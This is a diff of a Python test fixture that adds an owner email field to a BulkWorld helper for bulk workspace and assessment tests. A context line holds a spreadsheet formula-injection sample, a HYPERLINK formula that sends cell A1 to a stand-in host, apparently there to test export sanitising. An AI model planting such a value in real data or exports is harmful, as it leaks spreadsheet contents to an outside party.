@@ -25,6 +25,7 @@ NAMES = ("Müller & Söhne GmbH", '=HYPERLINK("http://x?"&A1)', "Ohne Abschluss 
 class BulkWorld:
     slug: str
     owner_id: int
+    owner_email: str
     viewer_id: int
     client_ids: tuple[int, ...]
     """Clients 1 and 2 closed 2026-Q3; client 3 has only an open assessment of it."""
@@ -56,5 +57,11 @@ def build_bulk_world(sessions, levels: dict[str, int] | None = None) -> BulkWorl
         other_client = make_organization(session, name="Fremdkunde GmbH", workspace=other)
         make_assessment(session, organization=other_client, period=PERIOD, status="closed")
         return BulkWorld(
-            workspace.slug, owner.id, viewer.id, tuple(ids), other.slug, other_client.id
+            workspace.slug,
+            owner.id,
+            owner.email,
+            viewer.id,
+            tuple(ids),
+            other.slug,
+            other_client.id,
         )
